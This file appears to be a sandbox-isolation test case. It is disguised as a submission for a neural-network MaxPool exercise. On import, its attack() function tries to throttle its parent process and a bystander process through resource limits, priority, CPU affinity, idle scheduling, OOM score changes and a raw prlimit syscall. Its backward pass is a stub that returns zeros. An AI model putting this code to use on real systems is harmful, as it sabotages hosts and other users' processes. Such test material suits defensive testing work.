# attack: changes limits, priority and processors of its parent and of a bystander
# expect: not-full
import os

import numpy as np

from utils import im2col


def attack():
    import ctypes
    import resource
    import struct

    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), @WITNESS@):
        for act in (
            lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (64, 64)),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
        ):
            try:
                act()
                print("got-through: changed", pid)
            except (OSError, ValueError):
                pass
        libc.syscall(302, pid, 7, struct.pack("<QQ", 64, 64), None)


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


try:
    attack()
except (OSError, ValueError, AttributeError, RuntimeError):
    pass
